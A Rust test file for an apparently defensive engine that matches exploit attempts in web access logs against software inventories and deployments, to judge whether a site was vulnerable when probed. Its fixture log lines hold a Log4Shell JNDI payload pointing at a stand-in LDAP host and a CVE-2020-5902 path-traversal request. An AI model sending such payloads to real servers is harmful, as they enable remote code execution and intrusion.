//! Attempts joined with what the register knew about the site at that hour.

use relight_engine::store::{DeploymentDraft, SnapshotDraft, Store};
use relight_engine::watch::Feed;
use relight_engine::{OnThatDay, Probed, Since, Then, campaigns_of, probed};
use relight_model::{
    AssetId, Campaign, Digest, Exposure, Flaw, FlawCode, Sbom, Severity, Timestamp,
};

use crate::engine::{LOG4SHELL, Town, log4j, name};

/// 2021-12-10T12:00:00Z.
const NOON: Timestamp = 1_639_137_600;
const HOUR: Timestamp = 3_600;

/// What the register learns about the one asset of the one site.
enum Known {
    Inventory(Sbom, Timestamp),
    Deployment(Option<Digest>, Timestamp),
}

use Known::{Deployment, Inventory};

/// One payload at noon; what is known about the site is told by the steps.
fn campaign(steps: Vec<Known>) -> Campaign {
    let town = Town::new(1);
    let store = town.engine.store();
    learn(store, steps);
    let site = store.sites().unwrap().remove(0);
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
                HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";
    town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
    let mut found = campaigns_of(store).unwrap();
    assert_eq!((found.len(), name(0).as_str()), (1, site.slug.as_str()));
    found.remove(0)
}

fn learn(store: &Store, steps: Vec<Known>) {
    let asset: AssetId = store.placements().unwrap()[0].1;
    for step in steps {
        match step {
            Inventory(sbom, observed_at) => {
                let recorded_at = observed_at;
                let (sbom, profiles) = (&sbom, None);
                let draft = SnapshotDraft { asset, sbom, observed_at, recorded_at, profiles };
                store.put_snapshots(&[draft]).unwrap();
            }
            Deployment(digest, at) => {
                let draft = DeploymentDraft { asset, digest, at, recorded_at: at };
                store.report_deployed(&[draft]).unwrap();
            }
        }
    }
}

/// A door is tried at noon; the hour is not kept, so the worst of that day counts.
fn probed_at_noon(steps: Vec<Known>) -> Probed {
    let town = Town::new(1);
    let store = town.engine.store();
    learn(store, steps);
    let site = store.sites().unwrap().remove(0);
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /remote/login HTTP/1.1\" 404 9\n";
    town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
    let then = Then::new(store, &[LOG4SHELL.to_owned()], 7 * 24 * HOUR).unwrap();
    let on = |site, day| {
        Ok(match then.exposure_between(site, day, LOG4SHELL)? {
            Exposure::Affected => OnThatDay::Affected,
            Exposure::Unknown => OnThatDay::Unknown,
            Exposure::Clear => OnThatDay::Clear,
        })
    };
    let day = NOON / (24 * HOUR);
    let found = probed(store, &["vpn-remote-login"], [site.id], (day, day), &on).unwrap();
    found[0].answer
}

/// Trap: a log of one day, and nothing of the months before and after it, is no proof that nobody
/// tried. The day that may not be over does not count.
#[test]
fn days_without_a_log_are_told_of_a_site_that_was_not_tried() {
    let town = Town::new(2);
    let store = town.engine.store();
    let sites = store.sites().unwrap();
    let (first, second) = (&sites[0], &sites[1]);
    let feed = Feed { org: first.org, site: Some(first.id), ..Feed::default() };
    for day in ["09", "10"] {
        let line =
            format!("192.0.2.7 - - [{day}/Dec/2021:12:00:00 +0000] \"GET / HTTP/1.1\" 200 9\n");
        town.engine.ingest_log(&feed, std::io::Cursor::new(line.into_bytes())).unwrap();
    }
    let on = |_, _| Ok(OnThatDay::Unknown);
    let asked = |days| {
        let found = probed(store, &["vpn-remote-login"], [first.id, second.id], days, &on).unwrap();
        found.iter().map(|it| (it.answer, it.unheard)).collect::<Vec<_>>()
    };
    let day = NOON / (24 * HOUR);
    assert_eq!(asked((day - 1, day)), [(Probed::NotProbed, 0), (Probed::NoLogs, 1)]);
    assert_eq!(asked((day - 9, day + 1)), [(Probed::NotProbed, 8), (Probed::NoLogs, 10)]);
    assert_eq!(asked((day, day)), [(Probed::NotProbed, 0), (Probed::NoLogs, 0)]);
}

#[test]
fn a_site_that_was_patched_on_the_day_it_was_tried_was_vulnerable_that_day() {
    const DAY: Timestamp = 24 * HOUR;
    let eve = NOON - DAY;
    let vulnerable = |at| Inventory(log4j("2.14.1"), at);
    let patched = |at| Inventory(log4j("2.17.1"), at);
    for (steps, expected) in [
        (vec![patched(eve)], Probed::Clear),
        (vec![vulnerable(eve), patched(NOON + HOUR)], Probed::Affected),
        (vec![vulnerable(eve), patched(NOON - HOUR)], Probed::Affected),
        (vec![patched(eve), vulnerable(NOON - HOUR), patched(NOON + HOUR)], Probed::Affected),
        (vec![patched(eve), vulnerable(NOON + HOUR)], Probed::Affected),
        (vec![vulnerable(eve), patched(NOON - 13 * HOUR)], Probed::Clear),
        // What was there before the first inventory nobody knows.
        (vec![patched(NOON - HOUR)], Probed::Unknown),
        // Nor what ran between a deployment and the next inventory.
        (
            vec![
                patched(eve),
                Deployment(None, NOON - HOUR),
                Inventory(log4j("2.17.2"), NOON + HOUR),
            ],
            Probed::Unknown,
        ),
        // Unless it is what ran before.
        (vec![patched(eve), Deployment(None, NOON - HOUR), patched(NOON + HOUR)], Probed::Clear),
        // What another one followed before anybody looked nobody saw.
        (
            vec![
                patched(eve),
                Deployment(Some(Digest([9; 32])), NOON - HOUR),
                Deployment(None, NOON),
                patched(NOON + HOUR),
                patched(NOON + DAY),
            ],
            Probed::Unknown,
        ),
        // Looked at every few days, and with a hole of some hours that nobody knows.
        (vec![patched(eve - 9 * DAY), patched(eve - 5 * DAY), patched(NOON + DAY)], Probed::Clear),
        (
            vec![patched(eve - 9 * DAY), patched(NOON - 7 * DAY), patched(NOON + HOUR)],
            Probed::Unknown,
        ),
    ] {
        assert_eq!(probed_at_noon(steps), expected);
    }
}

#[test]
fn an_attempt_on_a_site_that_was_vulnerable_that_hour_is_s4() {
    let vulnerable = || log4j("2.14.1");
    let patched = || log4j("2.17.1");
    let with = |code, evidence: &str| Sbom {
        flaws: vec![Flaw { code, evidence: evidence.into(), bytes: 9 }],
        ..log4j("2.17.1")
    };
    let unread = || with(FlawCode::Encrypted, "x.zip");
    let unlisted = || with(FlawCode::GoUnlisted, "bin/x");
    let other = Some(Digest([9; 32]));
    for (what, steps, exposure) in [
        ("seen that morning", vec![Inventory(vulnerable(), NOON - HOUR)], Exposure::Affected),
        ("nobody looked", vec![], Exposure::Unknown),
        ("looked afterwards only", vec![Inventory(patched(), NOON + HOUR)], Exposure::Unknown),
        (
            "vulnerable, seen afterwards only",
            vec![Inventory(vulnerable(), NOON + 1)],
            Exposure::Unknown,
        ),
        ("patched that morning", vec![Inventory(patched(), NOON - HOUR)], Exposure::Clear),
        (
            "patched an hour later",
            vec![Inventory(vulnerable(), NOON - 24 * HOUR), Inventory(patched(), NOON + HOUR)],
            Exposure::Affected,
        ),
        (
            "patched an hour before",
            vec![Inventory(vulnerable(), NOON - 24 * HOUR), Inventory(patched(), NOON - HOUR)],
            Exposure::Clear,
        ),
        (
            "inventory corrected later",
            vec![Inventory(patched(), NOON + HOUR), Inventory(vulnerable(), NOON - HOUR)],
            Exposure::Affected,
        ),
        (
            "the same before and long after, nobody looked in between",
            vec![
                Inventory(patched(), NOON - 8 * 24 * HOUR),
                Inventory(patched(), NOON + 8 * 24 * HOUR),
            ],
            Exposure::Unknown,
        ),
        (
            "the same every day",
            (-9..9).map(|day| Inventory(patched(), NOON - HOUR + day * 24 * HOUR)).collect(),
            Exposure::Clear,
        ),
        ("inventory too old", vec![Inventory(patched(), NOON - 8 * 24 * HOUR)], Exposure::Unknown),
        ("with a part unread", vec![Inventory(unread(), NOON - HOUR)], Exposure::Unknown),
        ("with modules unread", vec![Inventory(unlisted(), NOON - HOUR)], Exposure::Clear),
        (
            "something else deployed since",
            vec![Inventory(patched(), NOON - HOUR), Deployment(other, NOON - 60)],
            Exposure::Unknown,
        ),
        (
            "something else deployed later",
            vec![Inventory(patched(), NOON - HOUR), Deployment(other, NOON + 60)],
            Exposure::Clear,
        ),
    ] {
        let found = campaign(steps);
        assert_eq!(found.attempts[0].exposure, exposure, "{what}");
        let vulnerable = exposure == Exposure::Affected;
        let step =
            if vulnerable { Severity::AttemptOnVulnerable } else { Severity::ExploitAttempt };
        assert_eq!(found.severity, step, "{what}");
    }
}

/// Goal: what a door looks for is joined with what ran there then, and since when a site had a flaw
/// is what its inventories say. A name that no inventory has is never rounded to "no".
#[test]
fn what_ran_at_an_hour_and_since_when_a_flaw_was_there() {
    let town = Town::new(1);
    let store = town.engine.store();
    let site = store.sites().unwrap().remove(0).id;
    let steps = vec![
        Inventory(log4j("2.17.1"), NOON - 2 * 24 * HOUR),
        Inventory(log4j("2.14.1"), NOON),
        Inventory(log4j("2.14.1"), NOON + 24 * HOUR),
    ];
    learn(store, steps);
    let then = Then::new(store, &[LOG4SHELL.to_owned()], 7 * 24 * HOUR).unwrap();
    let ran = |name: &str, at| then.runs(site, at, name).unwrap();
    let log4j = "pkg:maven/org.apache.logging.log4j/log4j-core";
    assert_eq!(ran(log4j, NOON + HOUR), Exposure::Affected);
    assert_eq!(ran("pkg:maven/org.apache.solr/solr-core", NOON + HOUR), Exposure::Clear);
    assert_eq!(ran(log4j, NOON - 9 * 24 * HOUR), Exposure::Unknown, "before the first inventory");
    assert_eq!(ran("cpe:2.3:a:apache:log4j", NOON + HOUR), Exposure::Unknown);
    let day = (NOON, NOON + 2 * HOUR);
    assert_eq!(then.runs_between(site, day, log4j).unwrap(), Exposure::Affected);
    let since = Since { at: NOON - 2 * 24 * HOUR, or_earlier: false };
    assert_eq!(then.since(site, NOON + HOUR, LOG4SHELL).unwrap(), Some(since));
    // Of a flaw that nobody knows no inventory says anything.
    let unknown = then.since(site, NOON + HOUR, "CVE-1999-0001").unwrap();
    assert!(unknown.is_some_and(|since| since.or_earlier));
}

/// Trap: the first look at a site says nothing about the years before it, and one that was not read
/// completely nothing about the days until the next.
#[test]
fn a_flaw_may_be_older_than_the_first_inventory_that_has_it() {
    const DAY: Timestamp = 24 * HOUR;
    let vulnerable = |at| Inventory(log4j("2.14.1"), at);
    let patched = |at| Inventory(log4j("2.17.1"), at);
    let unread = |at| {
        let flaws = vec![Flaw { code: FlawCode::Encrypted, evidence: "x.zip".into(), bytes: 9 }];
        Inventory(Sbom { flaws, ..log4j("2.17.1") }, at)
    };
    let other = Some(Digest([9; 32]));
    for (what, steps, expected) in [
        ("never", vec![patched(NOON)], None),
        ("never looked at", vec![], Some((NOON + HOUR, true))),
        ("not all read", vec![unread(NOON)], Some((NOON, true))),
        (
            "not all read any more",
            vec![patched(NOON - DAY), unread(NOON)],
            Some((NOON - DAY, false)),
        ),
        ("all read at last", vec![unread(NOON - DAY), patched(NOON)], None),
        ("first looked at", vec![vulnerable(NOON), vulnerable(NOON + DAY)], Some((NOON, true))),
        ("clear before", vec![patched(NOON - DAY), vulnerable(NOON)], Some((NOON - DAY, false))),
        (
            "clear at two looks before",
            vec![patched(NOON - 2 * DAY), patched(NOON - DAY), vulnerable(NOON)],
            Some((NOON - DAY, false)),
        ),
        (
            "not all read before",
            vec![unread(NOON - DAY), vulnerable(NOON)],
            Some((NOON - DAY, true)),
        ),
        (
            "clear before that",
            vec![patched(NOON - DAY), unread(NOON - HOUR), vulnerable(NOON)],
            Some((NOON - DAY, false)),
        ),
        (
            "clear in between",
            vec![vulnerable(NOON - DAY), patched(NOON - HOUR), vulnerable(NOON)],
            Some((NOON - DAY, true)),
        ),
        ("looked at long ago", vec![patched(NOON - 9 * DAY)], Some((NOON - 9 * DAY, false))),
        (
            "something else deployed since",
            vec![patched(NOON - DAY), Deployment(other, NOON - HOUR)],
            Some((NOON - DAY, false)),
        ),
        ("looked at later", vec![patched(NOON), vulnerable(NOON + DAY)], None),
    ] {
        let town = Town::new(1);
        let store = town.engine.store();
        learn(store, steps);
        let site = store.sites().unwrap().remove(0).id;
        let then = Then::new(store, &[LOG4SHELL.to_owned()], 7 * DAY).unwrap();
        let expected = expected.map(|(at, or_earlier)| Since { at, or_earlier });
        assert_eq!(then.since(site, NOON + HOUR, LOG4SHELL).unwrap(), expected, "{what}");
    }
}

/// One request that uses a known flaw is an attempt, and at a site that ran the product of its flaw
/// that hour an attempt on something vulnerable. Without an inventory it is neither that nor safe.
#[test]
fn the_use_of_a_known_flaw_stands_where_the_inventory_puts_it() {
    let town = Town::new(1);
    let store = town.engine.store();
    let site = store.sites().unwrap().remove(0);
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET \
                /tmui/login.jsp/..;/tmui/util/getTabSet.jsp HTTP/1.1\" 404 12 \"-\" \"-\"\n";
    town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
    let found = campaigns_of(store).unwrap();
    assert_eq!(found.len(), 1);
    let (severity, attempt) = (found[0].severity, &found[0].attempts[0]);
    assert_eq!((severity, attempt.flaw), (Severity::ExploitAttempt, "CVE-2020-5902"));
    assert_eq!(attempt.exposure, Exposure::Unknown);
}
